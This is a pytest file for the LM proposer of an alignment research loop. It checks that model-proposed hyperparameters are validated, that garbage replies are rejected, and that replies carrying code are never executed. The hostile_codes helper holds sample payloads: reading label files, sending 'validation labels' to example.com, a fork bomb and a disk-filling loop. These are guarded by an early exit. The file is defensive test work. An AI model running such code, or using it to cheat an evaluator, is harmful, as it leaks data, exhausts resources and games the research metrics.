"""The ``lm`` proposer of ``autoalign research`` against scripted OpenAI-compatible servers (no training:
a scripted evaluator stands in for the students): a helpful model's in-space proposal runs and is kept
by the gate, and an equal one is discarded; garbage replies and failed calls are rejected with their
reasons and never evaluated; replies carrying method code are recorded and rejected, never executed;
an unreachable server stops the proposer after max_failures and the loop finishes with the others;
bad ``research.lm`` configs fail in one line."""

from __future__ import annotations

import asyncio
import json
import math
import socket
import zlib

import numpy as np
import pytest
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, Response
from research_fakes import evaluation

from autoalign.errors import UserError
from autoalign.research import loop
from autoalign.research.config import load_research
from autoalign.research.gate import alpha_at
from autoalign.research.lm_proposer import NO_CODE, read_reply
from autoalign.research.notebook import summary_lines
from autoalign.research.space import Knob
from autoalign.serve.background import background

CONFIG = """\
name: research-lm-test
seed: 0
research:
  search_seeds: [11, 12, 13, 14]
  test_seeds: [21, 22, 23]
  proposers: {proposers}
  lm: {{model: openai/scripted, base_url: "{url}", timeout: {timeout}, max_failures: {max_failures}}}
  space:
    loss: {{choices: [ce, confidence]}}
    lr_scale: {{low: 0.25, high: 4, log: true}}
    label_temperature: {{low: 0.25, high: 4, log: true}}
weak_to_strong:
  sizes: [micro, tiny]
"""

SPACE = {
    "loss": Knob(choices=["ce", "confidence"]),
    "lr_scale": Knob(low=0.25, high=4, log=True),
    "label_temperature": Knob(low=0.25, high=4, log=True),
}


# -- scripted pieces -------------------------------------------------------------------------------


def scripted_app(script: list, requests: list) -> FastAPI:
    """An OpenAI-compatible chat server answering with ``script`` in order: a string is the reply's
    content; ("status", code) an error status; ("raw", text) a 200 whose body is not JSON; ("sleep", s)
    no answer for s seconds."""
    app = FastAPI()

    @app.post("/v1/chat/completions")
    async def chat(request: Request):
        requests.append(await request.json())
        item = script[len(requests) - 1] if len(requests) <= len(script) else ("status", 503)
        if isinstance(item, tuple) and item[0] == "status":
            return JSONResponse({"error": {"message": "scripted failure", "type": "server_error"}}, item[1])
        if isinstance(item, tuple) and item[0] == "sleep":
            await asyncio.sleep(item[1])
            item = reply({"lr_scale": 2.0}, "too late")
        if isinstance(item, tuple) and item[0] == "raw":
            return Response(item[1], media_type="application/json")
        return {
            "id": f"chat-{len(requests)}",
            "object": "chat.completion",
            "created": 0,
            "model": "scripted",
            "choices": [{"index": 0, "message": {"role": "assistant", "content": item}, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
        }

    return app


def scripted_evaluator(calls: list):
    """PGR 0.5 when lr_scale is near 2 (a real, large effect), else 0.2; per-seed noise (SD 0.02)
    drawn from the seed and the options, so equal options score equally."""

    def evaluate(root, base, seed, pair, methods, canaries, threads):
        calls.append((seed, json.loads(json.dumps(methods)), canaries))
        out = {}
        for name, opts in methods.items():
            rng = np.random.default_rng([seed, zlib.crc32(json.dumps([name, opts], sort_keys=True).encode())])
            gain = 0.3 if name == "tunable" and abs(opts.get("lr_scale", 1.0) - 2.0) < 0.5 else 0.0
            out[name] = 0.2 + gain + rng.normal(0, 0.02)
        return evaluation(seed, out, canaries)

    return evaluate


def reply(params=None, rationale="a reason", **more) -> str:
    return json.dumps({"params": params, "rationale": rationale, **more})


def config(url="http://127.0.0.1:1/v1", proposers="{lm: 2}", max_failures=3, timeout=10, parallel=1) -> str:
    text = CONFIG.format(proposers=proposers, url=url, max_failures=max_failures, timeout=timeout)
    return text if parallel == 1 else text.replace("  proposers:", f"  parallel: {parallel}\n  proposers:")


def run(tmp_path, monkeypatch, url, proposers="{lm: 2}", max_failures=3, timeout=10, parallel=1):
    (tmp_path / "r.yaml").write_text(config(url, proposers, max_failures, timeout, parallel))
    calls: list = []
    monkeypatch.setattr(loop, "evaluate", scripted_evaluator(calls))
    result = loop.run_research(tmp_path / "r.yaml", tmp_path / "run")
    rows = [json.loads(line) for line in (tmp_path / "run" / "notebook.jsonl").read_text().splitlines()]
    return result, rows, calls


def searched(calls) -> list:
    """The tunable options evaluated on search seeds (each once per seed)."""
    return [c[1]["tunable"] for c in calls if c[0] in (11, 12, 13, 14)]


def closed_port_url() -> str:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    sock.close()
    return f"http://127.0.0.1:{port}/v1"


# -- a helpful model -------------------------------------------------------------------------------


def test_a_helpful_proposal_runs_and_is_kept_and_an_equal_one_is_discarded(tmp_path, monkeypatch):
    script = [
        "```json\n"
        + reply({"lr_scale": 2}, "a larger learning rate lets the student move past the weak labels")
        + "\n```",
        "Keeping lr_scale, I would also try a neutral temperature: "
        + reply({"lr_scale": 2.0, "label_temperature": 1.0}, "the temperature may not matter"),
    ]
    requests: list = []
    with background(scripted_app(script, requests)) as url:
        result, rows, calls = run(tmp_path, monkeypatch, f"{url}/v1")
    lm = [r for r in rows if r["proposer"] == "lm"]
    assert [r["params"] for r in lm] == [{"lr_scale": 2.0}, {"lr_scale": 2.0, "label_temperature": 1.0}]
    assert lm[0]["decision"]["kept"] and lm[0]["decision"]["gain"] > 0.25
    assert not lm[1]["decision"]["kept"] and not lm[1]["decision"].get("rejected")
    assert lm[0]["rationale"].startswith("lm: a larger learning rate") and "```json" in lm[0]["reply"]
    assert searched(calls).count({"lr_scale": 2.0}) == 4  # the proposal ran on every search seed
    assert result["proposers"]["lm"]["kept"] == 1 and result["proposers"]["lm"]["rejected"] == 0
    assert result["proposers"]["lm"]["test_gain"]["mean"] > 0.2
    # the model saw the task, its rules, the space and the notebook so far
    assert len(requests) == 2
    system, user = requests[0]["messages"][0]["content"], requests[0]["messages"][1]["content"]
    assert "validation PGR" in system and "sealed test on fresh seeds" in system and "t-test" in system
    assert "noise does not pay" in system
    assert "- lr_scale: a number in [0.25, 4] (log scale)" in user and '- loss: one of ["ce", "confidence"]' in user
    assert "#0 baseline 0: {}" in user and "kept: the starting incumbent" in user
    later = requests[1]["messages"][1]["content"]
    assert '#2 lm 1: {"lr_scale": 2.0}; mean validation PGR 0.5' in later and "; kept: gain +0.3" in later
    assert requests[0]["temperature"] == 0.7 and requests[0]["max_tokens"] == 600


def test_in_a_batch_the_model_is_asked_in_turn_and_sees_the_batch_s_earlier_proposals(tmp_path, monkeypatch):
    """research.parallel 2: both proposals are asked before either runs (the second request shows the
    first as pending), run together, and decided in order: the equal second one against the first."""
    script = [reply({"lr_scale": 2.0}, "a larger learning rate"), reply({"lr_scale": 1.9}, "a little less")]
    requests: list = []
    with background(scripted_app(script, requests)) as url:
        result, rows, calls = run(tmp_path, monkeypatch, f"{url}/v1", "{lm: 2}", parallel=2)
    lm = [r for r in rows if r["proposer"] == "lm"]
    assert [(r["k"], r["batch"], r["decision"]["kept"]) for r in lm] == [(1, 1, True), (2, 1, False)]
    assert abs(lm[1]["decision"]["gain"]) < 0.1  # judged against the first, just kept, not the baseline
    first, second = (r["messages"][1]["content"] for r in requests)
    assert "Proposed in this batch" not in first
    assert "Proposed in this batch, being run now (no scores yet)" in second and '- {"lr_scale": 2.0}' in second
    assert "#2 lm" not in second  # not scored yet: not in the notebook
    assert searched(calls)[8:] == [{"lr_scale": 2.0}] * 4 + [{"lr_scale": 1.9}] * 4


def test_a_proposer_that_stops_in_a_batch_is_asked_no_more(tmp_path, monkeypatch):
    result, rows, calls = run(tmp_path, monkeypatch, closed_port_url(), "{lm: 6, random: 3}", 2, parallel=4)
    lm = [r for r in rows if r["proposer"] == "lm"]
    assert [(r["k"], r["batch"]) for r in lm] == [(1, 1), (2, 1)]
    assert "stopped" not in lm[0]["decision"] and "max_failures" in lm[1]["decision"]["stopped"]
    assert [(r["k"], r["batch"]) for r in rows if r["proposer"] == "random"] == [(1, 1), (2, 1), (3, 1)]
    assert len(searched(calls)) == 4 * (2 + 3)


# -- garbage ---------------------------------------------------------------------------------------

GARBAGE = [
    ("I would raise the learning rate a little.", "rejected: no JSON object in the reply"),
    ("{params: {lr_scale: 2}}", "rejected: not JSON"),
    (json.dumps([{"params": {"lr_scale": 2.0}}]), "rejected: the reply is a JSON list, not an object"),
    (reply({"lr_scale": 2.0}, tool="shell"), "rejected: unknown keys ['tool']"),
    (reply({"lr_scale": 2.0, "momentum": 0.9}), "rejected: params.momentum: not an option of the declared space"),
    (reply({"lr_scale": 40}), "rejected: params.lr_scale: 40.0 is outside the space (a number in [0.25, 4]"),
    (reply({"loss": "mse"}), 'rejected: params.loss: "mse" is outside the space (one of ["ce", "confidence"])'),
    (reply({"lr_scale": True}), "rejected: params.lr_scale: true is not a number"),
    (reply([2.0]), "rejected: params is a JSON list, not an object"),
    (json.dumps({"rationale": "no params at all"}), "rejected: no params"),
    (reply({}), "rejected: params names no option"),
    ('{"params": {"lr_scale": NaN}}', "rejected: not JSON"),
    ("", "rejected: empty reply"),
    (("raw", "this body is not JSON {"), "rejected: model call failed: JSONDecodeError"),
    (("status", 500), "rejected: model call failed: openai/scripted: the server at http://127.0.0.1:"),
]


def test_garbage_replies_are_rejected_with_their_reasons_and_never_evaluated(tmp_path, monkeypatch):
    script = [g[0] for g in GARBAGE] + [reply({"lr_scale": 2.0}, "finally a proposal")]
    requests: list = []
    with background(scripted_app(script, requests)) as url:
        result, rows, calls = run(tmp_path, monkeypatch, f"{url}/v1", f"{{lm: {len(script)}}}", max_failures=50)
    lm = [r for r in rows if r["proposer"] == "lm"]
    assert len(lm) == len(script) == len(requests)
    for row, (_, reason) in zip(lm, GARBAGE):
        d = row["decision"]
        assert d["rejected"] and not d["kept"] and d["reason"].startswith(reason), (d["reason"], reason)
        assert row["seeds"] == [] and row["validation_pgr"] == [] and row["mean_validation_pgr"] is None
        assert row["seconds"] == 0 and row["rationale"].startswith("lm: ")
    assert "answered 500" in lm[len(GARBAGE) - 1]["decision"]["reason"]
    assert lm[3]["params"] == {"lr_scale": 2.0} and lm[0]["params"] is None  # what was parsed, if anything
    assert lm[0]["reply"] == GARBAGE[0][0]
    # the loop went on; only the baseline, its rerun and the one good proposal were evaluated, and the
    # good one is the 16th look, tested at the 16th look's alpha
    assert searched(calls) == [{}] * 4 + [{"rerun": 1}] * 4 + [{"lr_scale": 2.0}] * 4
    assert lm[-1]["k"] == len(script) and lm[-1]["decision"]["kept"]
    assert lm[-1]["decision"]["alpha_k"] == pytest.approx(alpha_at(len(script), 0.05))
    p = result["proposers"]["lm"]
    assert (p["proposals"], p["kept"], p["rejected"]) == (len(script), 1, len(GARBAGE))
    assert result["compute"]["evaluations"] == 12
    assert "15 rejected (not run)" in "\n".join(summary_lines(result))
    page = (tmp_path / "run" / "research.html").read_text()
    assert "rejected: params.momentum: not an option of the declared space" in page
    assert all(len(pt) == len(script) for pt in result["curves"].values())


# -- hostile code ----------------------------------------------------------------------------------


def hostile_codes(marker) -> list[str]:
    """Method code that must never run: each would first leave ``marker`` (and then stop before its
    harm, should a bug ever run it)."""
    head = f"open({str(marker)!r}, 'w').write('executed')\nraise SystemExit('hostile code ran')\n"
    return [
        head + "import glob\nfor p in glob.glob('runs/**/*labels*', recursive=True):\n    print(open(p).read())\n",
        head + "from autoalign.worlds.arithmetic import ArithmeticWorld\nchecker = ArithmeticWorld()\n",
        head + "import socket\nsocket.create_connection(('example.com', 80)).sendall(b'validation labels')\n",
        head + "import os\nwhile True:\n    os.fork()\n",
        head + "with open('/tmp/fill', 'wb') as f:\n    while True:\n        f.write(b'0' * 2**20)\n",
    ]


def test_replies_carrying_code_are_recorded_and_rejected_never_executed(tmp_path, monkeypatch):
    marker = tmp_path / "EXECUTED"
    codes = hostile_codes(marker)
    script = [reply({"lr_scale": 2.0}, f"method {i}", code=code) for i, code in enumerate(codes)]
    script.append("```python\n" + codes[0] + "```")  # a bare program, not a proposal
    requests: list = []
    with background(scripted_app(script, requests)) as url:
        result, rows, calls = run(tmp_path, monkeypatch, f"{url}/v1", f"{{lm: {len(script)}}}", max_failures=10)
    lm = [r for r in rows if r["proposer"] == "lm"]
    assert len(lm) == len(script)
    for row, code in zip(lm, codes):
        assert row["code"] == code and row["decision"]["reason"] == f"rejected: {NO_CODE}"
        assert row["params"] == {"lr_scale": 2.0} and not row["decision"]["kept"]
    assert lm[-1]["decision"]["reason"].startswith("rejected: no JSON object") and "code" not in lm[-1]
    assert not marker.exists()
    assert not list((tmp_path / "run").rglob("*.py")) and not list(tmp_path.rglob("*.py"))
    assert searched(calls) == [{}] * 4 + [{"rerun": 1}] * 4  # valid params, but never run with code
    assert result["proposers"]["lm"]["rejected"] == len(script)
    page = (tmp_path / "run" / "research.html").read_text()
    assert "code (not executed)" in page and "os.fork()" in page and "<pre>open(" in page


# -- an unreachable server -------------------------------------------------------------------------


def test_an_unreachable_server_stops_the_lm_proposer_and_the_loop_finishes(tmp_path, monkeypatch):
    result, rows, calls = run(tmp_path, monkeypatch, closed_port_url(), "{lm: 6, random: 2}", max_failures=3)
    lm = [r for r in rows if r["proposer"] == "lm"]
    assert [r["k"] for r in lm] == [1, 2, 3]
    assert all(
        r["decision"]["reason"].startswith("rejected: model call failed: openai/scripted: cannot reach") for r in lm
    )
    assert "stopped" not in lm[1]["decision"] and "max_failures" in lm[2]["decision"]["stopped"]
    assert [r["proposer"] for r in rows].count("random") == 2
    assert (tmp_path / "run" / "research.json").exists() and (tmp_path / "run" / "research.html").exists()
    assert result["proposers"]["lm"] == {**result["proposers"]["lm"], "proposals": 3, "kept": 0, "rejected": 3}
    assert "lm" in result["curves"] and "random" in result["curves"]
    assert len(searched(calls)) == 4 * (2 + 2)  # the baseline, its rerun and the two random proposals


def test_a_reply_later_than_the_timeout_is_a_failed_call_and_is_not_run(tmp_path, monkeypatch):
    requests: list = []
    with background(scripted_app([("sleep", 3)], requests)) as url:
        result, rows, calls = run(tmp_path, monkeypatch, f"{url}/v1", "{lm: 1}", timeout=1)
    (lm,) = [r for r in rows if r["proposer"] == "lm"]
    assert lm["decision"]["reason"].startswith("rejected: model call failed: openai/scripted: cannot reach")
    assert len(requests) == 1 and searched(calls) == [{}] * 4 + [{"rerun": 1}] * 4


def test_a_model_that_does_not_open_is_one_rejected_row(tmp_path, monkeypatch):
    import autoalign.models.providers as providers

    def broken(address, where="model"):
        raise RuntimeError("no weights in this folder\nsecond line")

    monkeypatch.setattr(providers, "open_model", broken)
    folder = tmp_path / "checkpoint"
    folder.mkdir()
    text = config(proposers="{lm: 4, random: 1}")
    (tmp_path / "r.yaml").write_text(text.replace("openai/scripted", f"hf/{folder}"))
    monkeypatch.setattr(loop, "evaluate", scripted_evaluator([]))
    loop.run_research(tmp_path / "r.yaml", tmp_path / "run")
    rows = [json.loads(line) for line in (tmp_path / "run" / "notebook.jsonl").read_text().splitlines()]
    (lm,) = [r for r in rows if r["proposer"] == "lm"]
    assert lm["decision"]["reason"] == f"rejected: cannot open hf/{folder}: no weights in this folder"
    assert "does not open" in lm["decision"]["stopped"] and rows[-1]["proposer"] == "random"


# -- parsing, without a server ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, params",
    [
        ('{"params": {"lr_scale": 3}, "rationale": "x"}', {"lr_scale": 3.0}),
        ('```\n{"params": {"loss": "ce"}}\n```', {"loss": "ce"}),
        ('Here it is: {"params": {"lr_scale": 1.234567}} and {"params": {"lr_scale": 9}}', {"lr_scale": 1.235}),
        ('I use {braces} in prose. {"params": {"label_temperature": 0.25}}', {"label_temperature": 0.25}),
    ],
)
def test_replies_are_read_robustly(text, params):
    read = read_reply(text, SPACE)
    assert read["rejected"] is None and read["params"] == params


def test_a_rounded_value_must_still_be_inside_its_knob():
    space = {"w": Knob(low=0.0, high=0.123456)}
    assert read_reply('{"params": {"w": 0.1234}}', space)["params"] == {"w": 0.1234}
    assert "outside the space" in read_reply('{"params": {"w": 0.123456}}', space)["rejected"]
    assert math.isclose(read_reply('{"params": {"w": 1e-9}}', space)["params"]["w"], 1e-9)


# -- config errors ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "change, message",
    [
        (("  lm: {model: openai/scripted", "  nolm: {model: openai/scripted"), "research.nolm: unknown key"),
        (("openai/scripted", "nowhere/x"), "research.lm.model: unknown model provider 'nowhere'"),
        (("openai/scripted", "not-an-address"), "research.lm.model: 'not-an-address' is neither"),
        (("max_failures: 3", "max_failures: 0"), "research.lm.max_failures"),
        (("timeout: 10", "timeout: 10, temperature: hot"), "research.lm.temperature"),
        (("timeout: 10", "timeout: 10, nonsense: 1"), "research.lm.nonsense: unknown key"),
    ],
)
def test_bad_lm_configs_fail_in_one_line(tmp_path, change, message):
    text = config()
    (tmp_path / "r.yaml").write_text(text.replace(*change))
    with pytest.raises(UserError) as err:
        load_research(tmp_path / "r.yaml")
    assert message in str(err.value) and "\n" not in str(err.value), str(err.value)


def test_the_lm_proposer_needs_research_lm_and_a_server(tmp_path, monkeypatch):
    text = config(proposers="{random: 2, lm: 2}")
    lines = [line for line in text.splitlines() if not line.startswith("  lm:")]
    (tmp_path / "r.yaml").write_text("\n".join(lines))
    with pytest.raises(UserError) as err:
        load_research(tmp_path / "r.yaml")
    assert "the lm proposer needs research.lm" in str(err.value) and "\n" not in str(err.value)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    (tmp_path / "r.yaml").write_text(text.replace(', base_url: "http://127.0.0.1:1/v1"', ""))
    with pytest.raises(UserError) as err:
        load_research(tmp_path / "r.yaml")
    assert "research.lm.base_url" in str(err.value) and "\n" not in str(err.value)
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:1/v1")
    assert load_research(tmp_path / "r.yaml")[0].research.lm.base_url is None
